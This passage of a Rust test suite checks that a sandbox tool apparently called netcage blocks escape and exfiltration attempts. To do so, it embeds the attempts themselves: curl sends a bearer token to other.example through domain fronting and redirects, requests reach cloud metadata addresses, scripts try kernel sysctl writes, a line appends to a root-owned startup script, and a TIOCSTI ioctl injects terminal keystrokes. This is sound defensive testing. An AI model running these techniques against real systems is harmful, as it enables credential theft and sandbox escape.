        tally.blocked(mode, "reading /proc/<netcage host pid>/mem and environ");
        for what in ["environ", "mem", "maps", "auxv"] {
            assert_eq!(res["init"][what]["err"], "EACCES", "/proc/1/{what}: {res}");
        }
        tally.blocked(mode, "reading init's (netcage's fork's) environ and memory");
        assert_eq!(res["ptrace_init"], "EPERM", "{res}");
        assert!(res["ptrace_host"] != "ok", "{res}");
        tally.blocked(mode, "ptrace-attaching to init and to netcage");

        // Whatever the child could read holds no secret — and does hold its token (so the
        // dump is real).
        let mut all = Vec::new();
        for v in res["dump"].as_object().unwrap().values() {
            all.extend(decode(v));
            all.push(b'\n');
        }
        assert_no_secret_material(&all, &fx.env.key(), "/proc/*/environ and cmdline");
        assert!(contains(&all, b"T1_SECRET=starpod:v1:"), "{res}");
        tally.blocked(
            mode,
            "finding the real value in any readable /proc environ or cmdline",
        );
        assert_no_secret_material(&out.stdout, &fx.env.key(), "the child's output");
    });
    tally.finish();
}

#[test]
fn tokens_never_reach_other_hosts_through_literals_fronting_redirects_or_plain_http() {
    let mut tally = Tally::new("token routing", TALLIED_TESTS);
    let v4 = machine_v4();
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let port = fx.up.port().to_string();
        let script = r#"
c() { curl -sS --max-time 10 -w '\n%{http_code}\n' -H "Authorization: Bearer $T1_TOKEN" "$@"; echo "rc=$?"; }
echo "== loopback literal"; c "https://127.0.0.1:$1/literal"
if [ -n "$2" ]; then echo "== machine literal"; c "https://$2:$1/literal"; fi
echo "== fronting"; c --http1.1 -H 'Host: other.example' "https://api.github.com:$1/front"
echo "== fronting h2"; c --http2 -H 'Host: other.example' "https://api.github.com:$1/front"
echo "== reverse fronting"; c -H 'Host: api.github.com' "https://other.example:$1/front"
echo "== redirect"; c -L --location-trusted "https://api.github.com:$1/redirect?to=https://other.example:$1/stolen"
echo "== plain"; c "http://api.github.com:$1/plain"
"#;
        let mut cmd = fx.run_cmd(
            &["--seal", "T1_TOKEN=api.github.com"],
            &["sh", "-c", script, "sh", &port, v4.as_deref().unwrap_or("")],
        );
        cmd.env("T1_TOKEN", SECRET);
        let out = run_with_timeout(&mut cmd, RUN_TIMEOUT);
        let text = stdout_str(&out);
        assert!(free_of(&out.stdout, SECRET.as_bytes()), "{text}");
        let section = |name: &str| -> String {
            let start = text
                .find(&format!("== {name}\n"))
                .unwrap_or_else(|| panic!("{name}: {}", describe(&out)));
            let rest = &text[start + name.len() + 4..];
            rest[..rest.find("\n== ").unwrap_or(rest.len())].to_owned()
        };
        let status = |name: &str| -> String {
            let s = section(name);
            let lines: Vec<&str> = s.lines().collect();
            lines[lines.len() - 2].to_owned()
        };

        // Whatever happened inside, the upstream saw the value only on the legitimate first leg
        // of the redirect.
        let with_secret = fx.requests_with_secret();
        assert_eq!(
            with_secret.iter().map(|r| r.path()).collect::<Vec<_>>(),
            vec!["/redirect"],
            "{with_secret:#?}"
        );
        assert_eq!(with_secret[0].sni.as_deref(), Some(BOUND));
        for path in ["/literal", "/front", "/stolen", "/plain"] {
            assert!(
                fx.up.requests().iter().all(|r| r.path() != path),
                "{path} reached the upstream: {:#?}",
                fx.up.requests()
            );
        }

        // 127.0.0.1 inside is the sandbox's own loopback.
        assert!(section("loopback literal").contains("000"), "{text}");
        tally.blocked(
            mode,
            "the token to https://127.0.0.1:PORT (IP literal of its host)",
        );
        if let Some(ip) = &v4 {
            let s = section("machine literal");
            // Refused for the token's binding, or earlier, as an address of this machine.
            assert_eq!(status("machine literal"), "403", "{s}");
            assert!(s.contains(&format!("\"host\":\"{ip}\"")), "{s}");
            tally.blocked(mode, "the token to https://<machine address>:PORT");
        }
        assert_eq!(status("fronting"), "421", "{}", section("fronting"));
        tally.blocked(
            mode,
            "domain fronting: SNI api.github.com, Host other.example",
        );
        assert_eq!(status("fronting h2"), "421", "{}", section("fronting h2"));
        tally.blocked(
            mode,
            "domain fronting over HTTP/2 (:authority other.example)",
        );
        assert_eq!(
            status("reverse fronting"),
            "421",
            "{}",
            section("reverse fronting")
        );
        tally.blocked(mode, "SNI other.example, Host api.github.com");
        let s = section("redirect");
        assert_eq!(status("redirect"), "403", "{s}");
        assert!(s.contains("\"host\":\"other.example\""), "{s}");
        tally.blocked(mode, "a redirect carrying the token to another host");
        let s = section("plain");
        assert_eq!(status("plain"), "403", "{s}");
        assert!(s.contains("plaintext"), "{s}");
        tally.blocked(mode, "the token over plain HTTP to its own host");
        let line = fx.wait_audit("the fronting refusal", |l| {
            field(l, "path") == "/front" && l["status"] == 421
        });
        assert_eq!(line["decision"], "block", "{line}");
    });
    tally.finish();
}

#[test]
fn the_cloud_metadata_address_is_refused_without_connecting() {
    let mut tally = Tally::new("metadata", TALLIED_TESTS);
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let script = r#"
c() { curl -sS --max-time 10 -w '\n%{http_code}\n' "$@"; echo "rc=$?"; }
echo "== http"; c http://169.254.169.254/latest/meta-data/
echo "== https"; c https://169.254.169.254/latest/meta-data/
echo "== v6"; c 'http://[fd00:ec2::254]/latest/meta-data/'
echo "== name"; getent hosts metadata.google.internal; echo "rc=$?"
"#;
        let out = fx.sh(&[], script, &[]);
        let text = stdout_str(&out);
        for (name, what) in [
            ("http", "http://169.254.169.254/"),
            ("https", "https://169.254.169.254/"),
            ("v6", "http://[fd00:ec2::254]/"),
        ] {
            let start = text
                .find(&format!("== {name}\n"))
                .unwrap_or_else(|| panic!("{}", describe(&out)));
            let section = &text[start..];
            let section = &section[..section[3..].find("== ").map_or(section.len(), |i| i + 3)];
            let lines: Vec<&str> = section.lines().collect();
            assert_eq!(lines[lines.len() - 2], "403", "{what}: {section}");
            let body: Value = serde_json::from_str(lines[1]).unwrap_or_else(|e| {
                panic!("{what}: {e}: {section}");
            });
            assert!(
                body["error"].as_str().unwrap().contains("metadata"),
                "{what}: {body}"
            );
            tally.blocked(mode, &format!("the cloud metadata service at {what}"));
        }
        assert!(text.contains("== name\nrc=2"), "{text}");
        tally.blocked(mode, "resolving metadata.google.internal");
        // Refused by policy, not by a failed connection attempt.
        let lines = fx.audit_lines();
        let refusals: Vec<&Value> = lines
            .iter()
            .filter(|l| field(l, "reason").contains("metadata"))
            .collect();
        assert!(refusals.len() >= 3, "{lines:#?}");
        assert!(
            refusals.iter().all(|l| l["decision"] == "block"),
            "{refusals:#?}"
        );
        assert!(
            lines.iter().all(|l| field(l, "decision") != "error"),
            "something tried to connect: {lines:#?}"
        );
    });
    tally.finish();
}

/// Opens global kernel interfaces for writing; a sysctl that opens is written its own current
/// value back (harmless), cgroup files only opened.
const KERNEL_SCRIPT: &str = r#"
import errno, glob, json, os
out = {}
sysctls = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
           "/proc/sys/kernel/domainname", "/proc/sys/net/ipv4/ping_group_range",
           "/proc/sysrq-trigger"]
cgroups = sorted(glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True))[:1]
for path in sysctls + cgroups + ["/sys/kernel/uevent_helper"]:
    if not os.path.exists(path):
        continue
    try:
        fd = os.open(path, os.O_WRONLY)
        try:
            if path.startswith("/proc/sys/"):
                os.write(fd, open(path, "rb").read())
            out[path] = "ok"
        finally:
            os.close(fd)
    except OSError as e:
        out[path] = errno.errorcode.get(e.errno, str(e))
print(json.dumps(out))
"#;

#[test]
fn global_kernel_settings_are_read_only() {
    let mut tally = Tally::new("kernel settings", TALLIED_TESTS);
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let before = (
            std::fs::read("/proc/sys/kernel/core_pattern").unwrap(),
            std::fs::read("/proc/sys/kernel/hostname").unwrap(),
        );
        let res = stdout_json(&fx.python(&[], KERNEL_SCRIPT, &[]));
        let after = (
            std::fs::read("/proc/sys/kernel/core_pattern").unwrap(),
            std::fs::read("/proc/sys/kernel/hostname").unwrap(),
        );
        assert_eq!(before, after, "the host's kernel settings changed");
        let attempts = res.as_object().unwrap();
        assert!(
            attempts.contains_key("/proc/sys/kernel/core_pattern"),
            "{res}"
        );
        for (path, errno) in attempts {
            assert!(
                matches!(errno.as_str(), Some("EROFS" | "EACCES" | "EPERM")),
                "{path} is writable from the sandbox: {res}"
            );
            tally.blocked(mode, &format!("opening {path} for writing"));
        }
    });
    tally.finish();
}

/// Host daemons keep their sockets under /run (docker.sock, containerd, systemd, dbus, nscd):
/// the sandbox sees an empty /run, so a socket there is out of reach.
#[test]
fn daemon_sockets_under_run_are_out_of_reach() {
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let dir = std::path::PathBuf::from(format!("/run/netcage-escape-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o777))
            .unwrap();
        let path = dir.join("daemon.sock");
        let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o777))
            .unwrap();
        let script = "import socket, sys\n\
                      s = socket.socket(socket.AF_UNIX)\n\
                      s.connect(sys.argv[1])\n\
                      s.sendall(b'hello from the sandbox')\n";
        let _ = fx.python(&[], script, &[path.to_str().unwrap()]);
        settle();
        let reached = listener.accept().is_ok();
        let _ = std::fs::remove_dir_all(&dir);
        assert!(
            !reached,
            "ESCAPED [{}]: the sandbox connected to a daemon socket under /run",
            mode.name()
        );
    });
}

/// A Unix socket the host listens on, in a directory the sandboxed user can reach (its
/// working directory): the network namespace does not cover filesystem sockets (docker.sock,
/// nscd, systemd-resolved's varlink socket…), so the view covers every socket a process
/// outside is bound to when the sandbox starts.
#[test]
fn a_unix_socket_on_the_host_is_out_of_reach() {
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let path = fx.env.path("host.sock");
        let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        if mode == Mode::Rootless {
            chown_tree(&path);
        }
        let script = "import socket, sys\n\
                      s = socket.socket(socket.AF_UNIX)\n\
                      s.connect(sys.argv[1])\n\
                      s.sendall(b'hello from the sandbox')\n";
        let _ = fx.python(&[], script, &[path.to_str().unwrap()]);
        settle();
        assert!(
            listener.accept().is_err(),
            "ESCAPED [{}]: the sandbox connected to the host's Unix socket {}",
            mode.name(),
            path.display()
        );
    });
}

/// As root the command runs as uid 0 (no capabilities), so file permissions alone would let
/// it write every root-owned file of the host — a root shell's startup file, a cron job, code
/// that later runs outside with the network and the vault key. Everything but the working
/// directory is read-only (or, /tmp, the sandbox's own).
#[test]
fn root_owned_host_files_are_not_writable() {
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        for base in [std::env::temp_dir(), std::path::PathBuf::from("/var/lib")] {
            let dir = tempfile::Builder::new()
                .prefix("netcage-root-only-")
                .tempdir_in(&base)
                .unwrap();
            let file = dir.path().join("startup.sh");
            std::fs::write(&file, "echo host\n").unwrap();
            std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o600))
                .unwrap();
            let planted = dir.path().join("planted");
            let _ = fx.sh(
                &[],
                r#"echo 'touch /tmp/planted-by-the-sandbox' >> "$1"; echo x > "$2""#,
                &[file.to_str().unwrap(), planted.to_str().unwrap()],
            );
            assert_eq!(
                std::fs::read_to_string(&file).unwrap(),
                "echo host\n",
                "ESCAPED [{}]: the sandbox appended to a root-owned 0600 file in {}",
                mode.name(),
                base.display()
            );
            assert!(
                !planted.exists(),
                "ESCAPED [{}]: the sandbox created a file in {}",
                mode.name(),
                base.display()
            );
        }
    });
}

/// The sandbox's control channel (to init and, through it, to netcage), the signalfd and the
/// /proc descriptor init holds, and any descriptor netcage's own caller leaked to it, must not
/// reach the command: with the control socket a command could start processes of its own
/// choosing or read other commands' stdio.
#[test]
fn the_command_inherits_no_descriptor_but_its_stdio() {
    let script = "import os\n\
                  for fd in sorted(int(f) for f in os.listdir('/proc/self/fd')):\n\
                  \x20   try:\n\
                  \x20       print(fd, os.readlink('/proc/self/fd/%d' % fd))\n\
                  \x20   except OSError:\n\
                  \x20       pass\n";
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        // The caller leaks fd 7 (not close-on-exec) to netcage; python lists what it holds.
        let out = fx.sh(
            &[],
            "exec 7</etc/hostname; exec python3 -c \"$1\"",
            &[script],
        );
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(
            text.contains("0 "),
            "[{}] no listing: {}",
            mode.name(),
            describe(&out)
        );
        for line in text.lines() {
            let (fd, target) = line.split_once(' ').unwrap_or((line, ""));
            let fd: i32 = fd.parse().unwrap_or(-1);
            // 0-2 are stdio, 7 is the command's own (its shell opened it); python's listing
            // handle is a directory under /proc/<pid>.
            let fine = fd <= 2 || fd == 7 || target.starts_with("/proc/") && target != "/proc";
            assert!(
                fine,
                "ESCAPED [{}]: the command holds fd {fd} -> {target}:\n{text}",
                mode.name()
            );
        }
    });
    // And a descriptor leaked by netcage's caller does not pass through netcage.
    let out = run_with_timeout(
        std::process::Command::new("sh")
            .arg("-c")
            .arg("exec 9</etc/hostname; exec \"$@\"")
            .arg("sh")
            .arg(netcage_bin())
            .args(["run", "--tier", "netns", "--data-dir"])
            .arg(tempfile::tempdir().unwrap().path())
            .args(["--", "python3", "-c", script]),
        RUN_TIMEOUT,
    );
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    if nix::unistd::geteuid().is_root() {
        assert!(text.contains("0 "), "no listing: {}", describe(&out));
        assert!(
            !text.lines().any(|l| l.starts_with("9 ")),
            "ESCAPED: a descriptor leaked to netcage reached the command:\n{text}"
        );
    }
}

/// A command sharing netcage's terminal must not push keystrokes into it (`TIOCSTI`): the
/// shell that started netcage would read them after the command exits, outside the sandbox.
/// netcage runs under a pseudo-terminal made here (its controlling terminal, like an
/// interactive shell's), and the command tries the ioctl on it.
#[test]
fn the_command_cannot_inject_input_into_the_terminal() {
    let legacy = std::fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").unwrap_or_default();
    if legacy.trim() == "0" {
        eprintln!(
            "note: dev.tty.legacy_tiocsti = 0: the kernel refuses TIOCSTI anyway, so this test cannot tell netcage's own refusal apart"
        );
    }
    const INNER: &str = "import fcntl, termios, os\n\
                         try:\n\
                         \x20   fcntl.ioctl(0, termios.TIOCSTI, b'#')\n\
                         \x20   print('INJECTED')\n\
                         except OSError as e:\n\
                         \x20   print('REFUSED errno', e.errno)\n\
                         print('tty', os.isatty(0))\n";
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let out = under_pty(&fx.run_cmd(&[], &["python3", "-c", INNER]));
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(
            text.contains("tty True"),
            "[{}] the command did not run on the terminal: {}",
            mode.name(),
            describe(&out)
        );
        assert!(
            !text.contains("INJECTED") && text.contains("REFUSED errno 1"),
            "ESCAPED [{}]: the command pushed input into netcage's terminal:\n{text}",
            mode.name()
        );
    });
}

/// Seen from the host (as root, which may read any process's /proc): the sandbox's holder and
/// init — forked from netcage, so born with a copy of its environment and the real value of
/// a sealed variable in it — hold no environment at all, and no process netcage started holds
/// the secret.
#[test]
fn the_holder_and_init_keep_no_copy_of_netcages_environment() {
    use std::io::BufRead;
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let mut cmd = fx.run_cmd(
            &["--seal", "T1_SECRET=api.github.com"],
            &["sh", "-c", "echo ready; exec sleep 60"],
        );
        cmd.env("T1_SECRET", SECRET)
            .stdout(std::process::Stdio::piped());
        let mut netcage = cmd.spawn().unwrap();
        let mut line = String::new();
        std::io::BufReader::new(netcage.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        assert_eq!(
            line.trim(),
            "ready",
            "[{}] the command did not start",
            mode.name()
        );
        // `sh` has printed; wait until it is `sleep`.
        let comm =
            |pid: u32| std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
        let mut tree = descendants(netcage.id());
        for _ in 0..200 {
            if tree.iter().any(|&p| comm(p).trim() == "sleep") {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(25));
            tree = descendants(netcage.id());
        }
        let mut seen = Vec::new();
        let mut environments = Vec::new();
        for pid in tree {
            let comm = comm(pid);
            let environ = std::fs::read(format!("/proc/{pid}/environ"))
                .unwrap_or_else(|e| panic!("[{}] /proc/{pid}/environ: {e}", mode.name()));
            if comm.trim() == "netcage" {
                assert!(
                    environ.iter().all(|&b| b == 0),
                    "[{}] netcage's child {pid} has an environment: {:?}",
                    mode.name(),
                    String::from_utf8_lossy(&environ)
                );
            }
            seen.push(comm.trim().to_owned());
            environments.extend(environ);
        }
        let _ = netcage.kill();
        let _ = netcage.wait();
        // The holder, init (both named netcage) and the command were there to be read.
        assert!(
            seen.iter().filter(|c| *c == "netcage").count() >= 2,
            "[{}] {seen:?}",
            mode.name()
        );
        assert!(
            seen.iter().any(|c| c == "sleep"),
            "[{}] {seen:?}",
            mode.name()
        );
        assert_no_secret_material(
            &environments,
            &fx.env.key(),
            "the environ of netcage's children",
        );
        assert!(
            contains(&environments, b"T1_SECRET=starpod:v1:"),
            "[{}] the command's environment was not read",
            mode.name()
        );
    });
}
